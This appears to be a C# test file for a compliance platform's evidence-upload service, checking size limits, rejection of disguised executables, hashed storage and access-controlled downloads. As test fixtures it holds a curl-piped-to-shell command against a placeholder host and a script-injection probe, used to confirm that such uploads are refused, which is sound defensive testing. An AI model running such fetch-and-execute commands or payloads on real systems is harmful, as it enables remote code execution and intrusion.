using System.Security.Cryptography;
using System.Text;
using GovGuard.Platform.Audit;
using GovGuard.Platform.Common;
using GovGuard.Platform.Evidence;
using GovGuard.Tests.Shared;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace GovGuard.Platform.Tests.Compliance;

public sealed class EvidenceUploadTests
{
    private const string IntegratorDuty = "6.2.3.c";

    private static async Task NothingStoredAsync(ComplianceWorld w)
    {
        Assert.Empty(w.EvidenceFiles());
        await using var db = w.Db.Context();
        Assert.Equal(0, await db.Evidence.CountAsync());
    }

    [Theory]
    [Databases]
    public async Task An_over_large_file_is_refused_naming_the_field_and_nothing_is_stored(string kind)
    {
        await using var w = await ComplianceWorld.CreateAsync(kind);
        var big = new byte[(20 * 1024 * 1024) + 1];
        "%PDF-1.7\n"u8.CopyTo(big);
        var r = await w.Upload(w.Integrator, IntegratorDuty, "大文件.pdf", big);
        var f = Assert.Single(r.Error!.Fields);
        Assert.Equal(("file", "max_size"), (f.Field, f.Rule));
        Assert.Contains("20 MiB", f.Message.Zh, StringComparison.Ordinal);
        await NothingStoredAsync(w);

        // The declared length is not trusted: a stream longer than it says is cut off at the limit too.
        var lying = await w.S.In(async sp =>
        {
            using var content = new MemoryStream(big);
            return await sp.GetRequiredService<EvidenceService>().SubmitAsync(w.Integrator, w.Site.Id, IntegratorDuty,
                new EvidenceInput("document", "报告"), new EvidenceUpload("report.pdf", content, 100), CancellationToken.None);
        });
        Assert.Equal("max_size", Assert.Single(lying.Error!.Fields).Rule);
        await NothingStoredAsync(w);
    }

    public static TheoryData<string, string, string> Disguised()
    {
        var data = new TheoryData<string, string, string>();
        foreach (var db in new[] { "sqlite", "postgres" })
        {
            data.Add(db, "pe", "executable");
            data.Add(db, "elf", "executable");
            data.Add(db, "macho", "executable");
            data.Add(db, "shebang", "executable");
            data.Add(db, "zip-exe", "executable");
            data.Add(db, "png-as-pdf", "content_type");
            data.Add(db, "exe-name", "extension");
            data.Add(db, "html", "extension");
        }

        return data;
    }

    private static (string Name, byte[] Bytes) Sample(string which) => which switch
    {
        "pe" => ("验收报告.pdf", [0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]),
        "elf" => ("report.pdf", [0x7F, 0x45, 0x4C, 0x46, 0x02, 0x01, 0x01, 0x00]),
        "macho" => ("scan.png", [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0x00, 0x00, 0x01]),
        "shebang" => ("notes.txt", Encoding.ASCII.GetBytes("#!/bin/sh\ncurl http://x | sh\n")),
        "zip-exe" => ("plan.docx", ComplianceWorld.Docx(("word/media/setup.exe", [0x4D, 0x5A, 0x00, 0x00]))),
        "png-as-pdf" => ("report.pdf", [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13]),
        "exe-name" => ("setup.exe", ComplianceWorld.Pdf()),
        "html" => ("page.html", Encoding.UTF8.GetBytes("<script>alert(1)</script>")),
        _ => throw new ArgumentOutOfRangeException(nameof(which)),
    };

    [Theory]
    [MemberData(nameof(Disguised))]
    public async Task A_disguised_executable_or_wrong_type_is_refused_with_the_rule_and_nothing_is_stored(string kind, string which, string rule)
    {
        await using var w = await ComplianceWorld.CreateAsync(kind);
        var (name, bytes) = Sample(which);
        var r = await w.Upload(w.Integrator, IntegratorDuty, name, bytes);
        Assert.False(r.Succeeded);
        var f = Assert.Single(r.Error!.Fields);
        Assert.Equal(("file", rule), (f.Field, f.Rule));
        Assert.Contains("file", f.Message.En, StringComparison.Ordinal);
        await NothingStoredAsync(w);
    }

    [Theory]
    [Databases]
    public async Task Accepted_files_are_stored_content_addressed_with_both_hashes(string kind)
    {
        await using var w = await ComplianceWorld.CreateAsync(kind);
        var pdf = ComplianceWorld.Pdf("集成方案");
        var r = await w.Upload(w.Integrator, IntegratorDuty, "集成实施方案.pdf", pdf);
        Assert.True(r.Succeeded, r.Error?.ToString());
        var sha = Convert.ToHexStringLower(SHA256.HashData(pdf));
        Assert.Equal(sha, r.Value!.Sha256);
        Assert.Equal(Convert.ToHexStringLower(Detection.Manifest.Sm3Hash.HashData(pdf)), r.Value.Sm3);
        Assert.Equal(Path.Combine(w.EvidenceFolder, sha[..2], sha), Assert.Single(w.EvidenceFiles()));
        Assert.Equal("pdf", r.Value.FileType);
        Assert.True((await w.Upload(w.Integrator, IntegratorDuty, "方案.docx", ComplianceWorld.Docx())).Succeeded);
        Assert.True((await w.Upload(w.Integrator, IntegratorDuty, "清单.csv", Encoding.UTF8.GetBytes("名称,数量\n服务器,3\n"))).Succeeded);
        Assert.True((await w.SubmitText(w.Integrator, IntegratorDuty, "渗透测试未发现高危漏洞。")).Succeeded);
        // The same bytes again are one file on disk and two rows.
        Assert.True((await w.Upload(w.Customer, IntegratorDuty, "副本.pdf", pdf)).Succeeded);
        Assert.Equal(3, w.EvidenceFiles().Count);
        var detail = (await w.Duty(w.Customer, IntegratorDuty)).Value!;
        Assert.Equal(5, detail.Duty.EvidenceCount);
    }

    [Theory]
    [Databases]
    public async Task Downloads_are_checked_against_the_website_and_denials_are_audited(string kind)
    {
        await using var w = await ComplianceWorld.CreateAsync(kind);
        var pdf = ComplianceWorld.Pdf();
        var item = (await w.Upload(w.Integrator, IntegratorDuty, "报告.pdf", pdf)).Value!;
        var outsider = await w.S.In(sp => sp.GetRequiredService<EvidenceService>().OpenAsync(w.Outsider, item.Id, CancellationToken.None));
        Assert.Equal(ErrorKind.NotFound, outsider.Error!.Kind);
        await using (var db = w.Db.Context())
        {
            var denied = await db.AuditRecords.SingleAsync(a => a.Kind == AuditKinds.AccessDenied && a.ObjectType == "evidence");
            Assert.Equal(w.Outsider.UserId, denied.ActorUserId);
        }

        var bytes = await w.S.In(async sp =>
        {
            var d = await sp.GetRequiredService<EvidenceService>().OpenAsync(w.Provider, item.Id, CancellationToken.None);
            Assert.Equal("报告.pdf", d.Value!.FileName);
            await using var s = d.Value.Content;
            using var ms = new MemoryStream();
            await s.CopyToAsync(ms);
            return ms.ToArray();
        });
        Assert.Equal(pdf, bytes);

        // The outsider cannot submit either, and an assessor-only organisation cannot add evidence to another's duty.
        Assert.Equal(ErrorKind.NotFound, (await w.Upload(w.Outsider, IntegratorDuty, "x.pdf", pdf)).Error!.Kind);
        Assert.Equal(ErrorKind.Forbidden, (await w.Upload(w.Assessor, IntegratorDuty, "x.pdf", pdf)).Error!.Kind);
    }
}
